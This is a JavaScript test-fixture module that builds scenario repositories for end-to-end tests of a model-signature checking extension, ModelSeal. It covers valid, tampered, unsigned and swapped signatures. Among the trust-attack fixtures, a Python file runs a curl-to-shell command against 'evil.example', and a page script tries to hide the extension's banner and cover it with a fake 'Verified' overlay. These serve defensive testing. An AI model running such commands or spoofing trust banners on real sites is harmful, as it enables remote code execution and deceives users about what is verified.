// The scenario repos every end-to-end test, the demo and the bench use. Sigstore-signed repos carry
// the real public-good signatures from ../shared/fixtures/oms-real (identity stefanb@us.ibm.com:
// the extension ships the production trusted root, so factory Sigstore bundles would not verify
// in it); key-signed ones are signed by the fixture factory (test/factory) with its deterministic
// P-256 key signer, whose public key the tests pin by policy. Without ../shared (a fresh clone),
// buildScenarios signs every repo with that key and reports the Sigstore-only scenarios as skipped.
import { readFileSync, existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { file, repo, sha256Hex } from './repo.mjs';
import { factory } from './factory.mjs';
import { partialSignatureRepos, partialSignatureScenarios } from './partial-scenarios.mjs';

export const SHARED = resolve(process.cwd(), '../shared');
export const OMS_REAL = resolve(SHARED, 'fixtures/oms-real');
export const hasShared = () => existsSync(resolve(OMS_REAL, 'v1.1.0-sigstore/model.sig'));

export const SIGSTORE_IDENTITY = 'stefanb@us.ibm.com';
export const SIGSTORE_ISSUER = 'https://sigstore.verify.ibm.com/oauth2';

const README = '# Fixture model\n\nServed by the ModelSeal fixture hub.\n';
const CONFIG = '{"architectures": ["FixtureModel"], "hidden_size": 8}\n';

/** The files of a real signed fixture (model.sig, signme-1, signme-2, ignore-me), optionally as LFS. */
function realFiles(dir, { lfs = false } = {}) {
  const read = (n) => readFileSync(resolve(OMS_REAL, dir, n));
  return [
    file('model.sig', read('model.sig')),
    file('signme-1', read('signme-1'), { lfs }),
    file('signme-2', read('signme-2'), { lfs }),
    file('ignore-me', read('ignore-me')),
  ];
}

/**
 * The fixture hub's signing key: the factory's model_signing 1.1 key signer (P-256, `publicKey.hint`
 * bundles) with the PEM a key policy pins and the fingerprint the extension reports for it (SHA-256
 * of the SPKI DER). The same seed always gives the same key.
 */
export function fixtureKey(seed = 'modelseal-fixture-hub') {
  const signer = factory.createKeySigner('P-256', { seed });
  return { signer, pem: signer.publicKeyPem, fingerprint: factory.hex(factory.sha256(signer.key.spki)) };
}

/** Signed manifests this many entries long stay under the core's 1 MiB bundle cap. */
export const MAX_SIGNED_FILES = 3000;

/**
 * n model files with a key signature. Every 10th file is a non-LFS JSON file (fetched and hashed by
 * the worker), the rest LFS weights (checked by their listed SHA-256). Beyond MAX_SIGNED_FILES the
 * extra files live under `cache/`, which the signature's ignore_paths excludes.
 */
export function keySignedFiles(key, n, name = 'model') {
  const files = [];
  const ignored = [];
  for (let i = 0; i < n; i++) {
    const id = String(i).padStart(5, '0');
    if (i >= MAX_SIGNED_FILES) {
      ignored.push(file(`cache/c-${id}.bin`, `fixture ${name} cache ${i}\n`, { lfs: true }));
      continue;
    }
    const lfs = i % 10 !== 0;
    files.push(file(lfs ? `weights/shard-${id}.safetensors` : `config/part-${id}.json`, `fixture ${name} file ${i}\n`, { lfs }));
  }
  const model = Object.fromEntries([...files, ...ignored].map((f) => [f.path, f.bytes]));
  const { signature } = factory.signModel({ files: model, signer: key.signer, name, ignorePaths: ignored.length ? ['cache'] : [] });
  return [file('model.sig', signature), ...files, ...ignored];
}

/**
 * Builds every scenario. Returns { repos, scenarios, key, skipped } where each scenario names the
 * page to visit, the state the toolbar must reach and any setup step. Without ../shared (a fresh
 * clone) the scenarios are rebuilt from the factory's key signer and `skipped` names the ones only
 * the real Sigstore signatures can show; with it, `skipped` is empty.
 */
export function buildScenarios({ shared = hasShared() } = {}) {
  const key = fixtureKey();
  if (!shared) return keyOnlyScenarios(key);
  const sig = () => realFiles('v1.1.0-sigstore');
  const sigLfs = () => realFiles('v1.1.0-sigstore', { lfs: true });
  const keyed = keySignedFiles(key, 6, 'keyed');
  const repos = [
    repo({ id: 'ibm-fixture/sigstore-signed', commits: { v1: sigLfs() } }),
    repo({ id: 'acme/key-signed', commits: { v1: keyed } }),
    repo({ id: 'acme/unsigned', commits: { v1: [file('config.json', CONFIG), file('README.md', README), file('model.safetensors', 'weights', { lfs: true })] } }),
    repo({
      id: 'ibm-fixture/lfs-changed',
      commits: { v1: sigLfs().map((f) => (f.path === 'signme-1' ? { ...f, lfsOid: sha256Hex(Buffer.from('tampered after signing')) } : f)) },
    }),
    repo({ id: 'ibm-fixture/extra-file', commits: { v1: [...sig(), file('extra.bin', 'not in the signed manifest', { lfs: true })] } }),
    repo({
      id: 'ibm-fixture/identity-change',
      // v1 signed with the fixture key (trusted through a key policy, which pins it), v2 by the
      // Sigstore identity: once the policy is gone, v2 is a new signer against the pin.
      commits: { v1: keySignedFiles(key, 4, 'identity-change'), v2: sig() },
      branches: { main: 'v2', old: 'v1' },
    }),
    // main starts signed; the scenario then moves it to the unsigned commit (only the default branch
    // head may pin on first use, so the first visit is on main, not on another branch).
    repo({
      id: 'ibm-fixture/signature-removed',
      commits: { v1: sig(), v2: sig().filter((f) => f.path !== 'model.sig') },
      branches: { main: 'v1', old: 'v1' },
    }),
    repo({ id: 'ibm-fixture/invalid-signature', commits: { v1: sig().map((f) => (f.path === 'model.sig' ? { ...f, bytes: tamperSignature(f.bytes) } : f)) } }),
    repo({ id: 'ibm-fixture/gated', gated: true, commits: { v1: sigLfs() } }),
    repo({ id: 'ibm-fixture/rate-limited', rateLimitFirst: 1, commits: { v1: sigLfs() } }),
    repo({ id: 'ibm-fixture/rate-limited-watch', rateLimitFirst: 1, commits: { v1: sigLfs() } }),
    repo({ id: 'acme/ten-thousand', commits: { v1: keySignedFiles(key, 10_000, 'ten-thousand') } }),
    repo({ id: 'ibm-fixture/new-name', renamedFrom: 'ibm-fixture/old-name', commits: { v1: sigLfs() } }),
    repo({ id: 'ibm-fixture/signed-data', kind: 'dataset', commits: { v1: sigLfs() } }),
    repo({ id: 'ibm-fixture/hostile-page', pageScript: HOSTILE_SCRIPT, commits: { v1: sigLfs() } }),
    // Non-LFS files only: with a tiny hashing cap they cannot be checked in the browser.
    repo({ id: 'ibm-fixture/too-large', commits: { v1: sig() } }),
    // A redesigned page with no header island: the banner has no anchor.
    repo({ id: 'ibm-fixture/no-header', bareLayout: true, commits: { v1: sigLfs() } }),
  ];
  const keyPolicy = (scope) => ({ do: 'set-key-policy', scope, pem: key.pem });
  const visit = (path, ...expect) => ({ do: 'visit', path, expect });
  // Each scenario is a list of steps; `visit` steps wait for the final state and check it is one of
  // `expect`. The last visit's page is the one screenshotted and asserted on.
  const scenarios = [
    { name: 'Sigstore-signed, valid', steps: [visit('/ibm-fixture/sigstore-signed', 'verified-first-use'), visit('/ibm-fixture/sigstore-signed', 'verified')] },
    { name: 'key-signed, key pinned by policy', steps: [keyPolicy('acme/key-signed'), visit('/acme/key-signed', 'verified')] },
    { name: 'unsigned', steps: [visit('/acme/unsigned', 'unsigned')] },
    { name: 'LFS file changed after signing', steps: [visit('/ibm-fixture/lfs-changed', 'files-changed')] },
    { name: 'extra unsigned file', steps: [visit('/ibm-fixture/extra-file', 'files-changed')] },
    {
      name: 'identity changed, then accepted',
      steps: [
        keyPolicy('ibm-fixture/identity-change'),
        visit('/ibm-fixture/identity-change/tree/old', 'verified'),
        { do: 'remove-policy', scope: 'ibm-fixture/identity-change' },
        visit('/ibm-fixture/identity-change', 'identity-changed'),
        { do: 'screenshot', label: 'identity-changed' },
        { do: 'accept-in-popup', repo: 'ibm-fixture/identity-change' },
        visit('/ibm-fixture/identity-change', 'verified'),
      ],
    },
    {
      name: 'signature removed',
      steps: [
        visit('/ibm-fixture/signature-removed', 'verified-first-use'),
        { do: 'move-branch', repo: 'ibm-fixture/signature-removed', branch: 'main', to: 'v2' },
        visit('/ibm-fixture/signature-removed', 'signature-removed'),
      ],
    },
    { name: 'invalid signature', steps: [visit('/ibm-fixture/invalid-signature', 'invalid-signature')] },
    {
      name: 'gated (401), then signed in',
      steps: [visit('/ibm-fixture/gated', 'unverifiable'), { do: 'screenshot', label: 'gated' }, { do: 'sign-in' }, visit('/ibm-fixture/gated', 'verified-first-use')],
    },
    { name: '429, then success', steps: [visit('/ibm-fixture/rate-limited', 'verified-first-use')] },
    { name: '10,000 files (paginated tree)', steps: [keyPolicy('acme/ten-thousand'), visit('/acme/ten-thousand', 'verified')] },
    { name: 'renamed repo (307)', steps: [visit('/ibm-fixture/old-name', 'verified-first-use')] },
    { name: 'dataset repo', steps: [visit('/datasets/ibm-fixture/signed-data', 'verified-first-use')] },
    { name: 'hostile page script', steps: [visit('/ibm-fixture/hostile-page', 'verified-first-use')] },
    ...trustAttackScenarios(visit, keyPolicy),
    ...partialSignatureScenarios(visit, keyPolicy),
  ];
  return { repos: [...repos, ...trustAttackRepos(key, sig, sigLfs), ...partialSignatureRepos(key)], scenarios, key, skipped: [] };
}

/** A signature file whose bundle media type no verifier knows (the bundle is otherwise the real one). */
function withMediaType(files, mediaType) {
  return files.map((f) => {
    if (f.path !== 'model.sig') return f;
    const b = JSON.parse(f.bytes.toString('utf8'));
    b.mediaType = mediaType;
    return { ...f, bytes: Buffer.from(JSON.stringify(b)) };
  });
}

/**
 * Repos for the trust attacks (review findings 1, 2, 3, 6; test/e2e/attacks-trust.test.ts): signed
 * pull requests, a default branch not called main, per-file signatures beside unsigned code, a
 * pinned repo whose signature is swapped for one that cannot be checked, and one LFS object listed
 * under 400 signed names.
 */
function trustAttackRepos(key, sig, sigLfs) {
  const unsigned = [file('config.json', CONFIG), file('README.md', README), file('model.safetensors', 'weights', { lfs: true })];
  const pr = { main: 'v1', 'refs/pr/1': 'pr' };
  const gguf = Buffer.from('GGUF fixture weights, signed per file\n');
  const perFileSig = factory.signModel({ file: { name: 'model.gguf', content: gguf }, signer: key.signer }).signature;
  const blob = Buffer.alloc(16 * 1024, 0x5a);
  const fanout = Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`w/part-${String(i).padStart(3, '0')}.bin`, blob]));
  const fanoutSig = factory.signModel({ files: fanout, hashType: 'blake2b', signer: key.signer, name: 'fanout' }).signature;
  const keyed = keySignedFiles(key, 4, 'sig-swapped');
  return [
    repo({ id: 'ibm-fixture/pr-first', commits: { v1: sigLfs(), pr: sig() }, branches: pr }),
    repo({ id: 'ibm-fixture/pr-unsigned-main', commits: { v1: unsigned, pr: sig() }, branches: pr }),
    repo({ id: 'ibm-fixture/pr-data', kind: 'dataset', commits: { v1: sigLfs(), pr: sig() }, branches: pr }),
    repo({ id: 'ibm-fixture/release-default', commits: { old: sig(), v1: sigLfs() }, branches: { main: 'old', release: 'v1' }, defaultBranch: 'release' }),
    repo({
      id: 'acme/per-file',
      commits: {
        v1: [
          file('model.gguf', gguf, { lfs: true }),
          file('model.gguf.sig', perFileSig),
          file('config.json', '{"auto_map": {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}, "model_type": "evil"}\n'),
          file('modeling_evil.py', 'import os\nos.system("curl https://evil.example/x | sh")\n'),
          file('README.md', README),
        ],
      },
    }),
    repo({
      id: 'ibm-fixture/sig-swapped',
      commits: {
        v1: sig(),
        media: withMediaType(sig(), 'application/vnd.dev.sigstore.bundle.v0.9+json'),
        key: [...sig().filter((f) => f.path !== 'model.sig'), keyed.find((f) => f.path === 'model.sig')],
      },
      branches: { main: 'v1' },
    }),
    repo({ id: 'acme/fanout', commits: { v1: [file('model.sig', fanoutSig), ...Object.entries(fanout).map(([p, b]) => file(p, b, { lfs: true }))] } }),
    repo({ id: 'acme/budget', commits: { v1: keySignedFiles(key, 200, 'budget') } }),
  ];
}

function trustAttackScenarios(visit, keyPolicy) {
  const prPath = (base) => `${base}/tree/refs%2Fpr%2F1`;
  return [
    {
      name: 'signed pull request visited first',
      steps: [
        visit(prPath('/ibm-fixture/pr-first'), 'unpinned-revision'),
        { do: 'screenshot', label: 'unpinned-revision' },
        visit('/ibm-fixture/pr-first', 'verified-first-use'),
        visit(prPath('/ibm-fixture/pr-first'), 'verified'),
      ],
    },
    { name: 'signed pull request, unsigned default branch', steps: [visit(prPath('/ibm-fixture/pr-unsigned-main'), 'unpinned-revision'), visit('/ibm-fixture/pr-unsigned-main', 'unsigned')] },
    { name: 'dataset pull request visited first', steps: [visit(prPath('/datasets/ibm-fixture/pr-data'), 'unpinned-revision'), visit('/datasets/ibm-fixture/pr-data', 'verified-first-use')] },
    { name: 'default branch not named main', steps: [visit('/ibm-fixture/release-default/tree/main', 'unpinned-revision'), visit('/ibm-fixture/release-default', 'verified-first-use')] },
    { name: 'per-file signatures beside unsigned code', steps: [keyPolicy('acme/per-file'), visit('/acme/per-file', 'partly-signed')] },
    {
      name: 'pinned repo, signature swapped for one that cannot be checked',
      steps: [
        visit('/ibm-fixture/sig-swapped', 'verified-first-use'),
        { do: 'move-branch', repo: 'ibm-fixture/sig-swapped', branch: 'main', to: 'media' },
        visit('/ibm-fixture/sig-swapped', 'invalid-signature'),
        { do: 'move-branch', repo: 'ibm-fixture/sig-swapped', branch: 'main', to: 'key' },
        visit('/ibm-fixture/sig-swapped', 'invalid-signature'),
      ],
    },
    { name: 'one object under 400 signed names', steps: [keyPolicy('acme/fanout'), visit('/acme/fanout', 'verified')] },
  ];
}

/** Scenarios that only a Sigstore identity can show (a signer trusted on first use, then replaced). */
export const SIGSTORE_ONLY = [
  { name: 'Sigstore-signed, valid', why: 'trust on first use of a Sigstore identity' },
  { name: 'identity changed, then accepted', why: 'a pinned key replaced by a Sigstore identity' },
];

/**
 * The scenarios without ../shared: every signed repo is signed by the fixture key, whose policy each
 * scenario sets first (a key signature verifies only against a pinned key), so states that were
 * verified-first-use for the Sigstore repos are `verified` here.
 */
function keyOnlyScenarios(key) {
  const signed = (name) => keySignedFiles(key, 4, name);
  const changedLfs = signed('lfs-changed').map((f) => (f.path === 'weights/shard-00001.safetensors' ? { ...f, lfsOid: sha256Hex(Buffer.from('tampered after signing')) } : f));
  const repos = [
    repo({ id: 'acme/key-signed', commits: { v1: keySignedFiles(key, 6, 'keyed') } }),
    repo({ id: 'acme/unsigned', commits: { v1: [file('config.json', CONFIG), file('README.md', README), file('model.safetensors', 'weights', { lfs: true })] } }),
    repo({ id: 'acme/lfs-changed', commits: { v1: changedLfs } }),
    repo({ id: 'acme/extra-file', commits: { v1: [...signed('extra-file'), file('extra.bin', 'not in the signed manifest', { lfs: true })] } }),
    repo({
      id: 'acme/signature-removed',
      commits: { v1: signed('signature-removed'), v2: signed('signature-removed').filter((f) => f.path !== 'model.sig') },
      branches: { main: 'v2', old: 'v1' },
    }),
    repo({ id: 'acme/invalid-signature', commits: { v1: signed('invalid-signature').map((f) => (f.path === 'model.sig' ? { ...f, bytes: tamperSignature(f.bytes) } : f)) } }),
    repo({ id: 'acme/gated', gated: true, commits: { v1: signed('gated') } }),
    repo({ id: 'acme/rate-limited', rateLimitFirst: 1, commits: { v1: signed('rate-limited') } }),
    repo({ id: 'acme/ten-thousand', commits: { v1: keySignedFiles(key, 10_000, 'ten-thousand') } }),
    repo({ id: 'acme/new-name', renamedFrom: 'acme/old-name', commits: { v1: signed('new-name') } }),
    repo({ id: 'acme/signed-data', kind: 'dataset', commits: { v1: signed('signed-data') } }),
    repo({ id: 'acme/hostile-page', pageScript: HOSTILE_SCRIPT, commits: { v1: signed('hostile-page') } }),
  ];
  const keyPolicy = (scope) => ({ do: 'set-key-policy', scope, pem: key.pem });
  const visit = (path, ...expect) => ({ do: 'visit', path, expect });
  const scenarios = [
    { name: 'key-signed, key pinned by policy', steps: [keyPolicy('acme/key-signed'), visit('/acme/key-signed', 'verified')] },
    { name: 'unsigned', steps: [visit('/acme/unsigned', 'unsigned')] },
    { name: 'LFS file changed after signing', steps: [keyPolicy('acme/lfs-changed'), visit('/acme/lfs-changed', 'files-changed')] },
    { name: 'extra unsigned file', steps: [keyPolicy('acme/extra-file'), visit('/acme/extra-file', 'files-changed')] },
    {
      name: 'signature removed',
      steps: [keyPolicy('acme/signature-removed'), visit('/acme/signature-removed/tree/old', 'verified'), visit('/acme/signature-removed', 'signature-removed')],
    },
    { name: 'invalid signature', steps: [keyPolicy('acme/invalid-signature'), visit('/acme/invalid-signature', 'invalid-signature')] },
    {
      name: 'gated (401), then signed in',
      steps: [keyPolicy('acme/gated'), visit('/acme/gated', 'unverifiable'), { do: 'screenshot', label: 'gated' }, { do: 'sign-in' }, visit('/acme/gated', 'verified')],
    },
    { name: '429, then success', steps: [keyPolicy('acme/rate-limited'), visit('/acme/rate-limited', 'verified')] },
    { name: '10,000 files (paginated tree)', steps: [keyPolicy('acme/ten-thousand'), visit('/acme/ten-thousand', 'verified')] },
    { name: 'renamed repo (307)', steps: [keyPolicy('acme/new-name'), visit('/acme/old-name', 'verified')] },
    { name: 'dataset repo', steps: [keyPolicy('acme/signed-data'), visit('/datasets/acme/signed-data', 'verified')] },
    { name: 'hostile page script', steps: [keyPolicy('acme/hostile-page'), visit('/acme/hostile-page', 'verified')] },
    ...partialSignatureScenarios(visit, keyPolicy),
  ];
  return { repos: [...repos, ...partialSignatureRepos(key)], scenarios, key, skipped: SIGSTORE_ONLY };
}

/** Flips one byte of the DSSE signature: the bundle still parses, the signature no longer holds. */
function tamperSignature(bytes) {
  const b = JSON.parse(bytes.toString('utf8'));
  const sig = Buffer.from(b.dsseEnvelope.signatures[0].sig, 'base64');
  sig[sig.length - 5] ^= 0x01;
  b.dsseEnvelope.signatures[0].sig = sig.toString('base64');
  return Buffer.from(JSON.stringify(b));
}

// A page that tries to read, restyle, hide and cover ModelSeal's banner and marks.
const HOSTILE_SCRIPT = `
window.__hostile = { shadow: 'not tried', frameText: 'not tried', restyled: false, covered: false };
function attack() {
  const host = document.querySelector('modelseal-banner');
  if (!host) return setTimeout(attack, 50);
  window.__hostile.shadow = host.shadowRoot === null ? 'null' : 'open';
  try { host.attachShadow({ mode: 'open' }); window.__hostile.reattach = 'allowed'; } catch (e) { window.__hostile.reattach = 'refused'; }
  const frame = host.querySelector('iframe');
  window.__hostile.frameFromLight = frame ? 'found' : 'not found';
  host.style.display = 'none';
  host.setAttribute('style', 'display:none !important');
  window.__hostile.restyled = true;
  const cover = document.createElement('div');
  cover.id = 'cover';
  cover.textContent = 'Verified by ModelSeal (fake)';
  cover.setAttribute('style', 'position:absolute;left:0;top:0;width:100%;height:60px;background:#1a7f37;color:#fff;z-index:99999');
  document.body.append(cover);
  window.__hostile.covered = true;
  const s = document.createElement('style');
  s.textContent = 'modelseal-banner, modelseal-mark { opacity: 0 !important; }';
  document.head.append(s);
}
attack();
`;
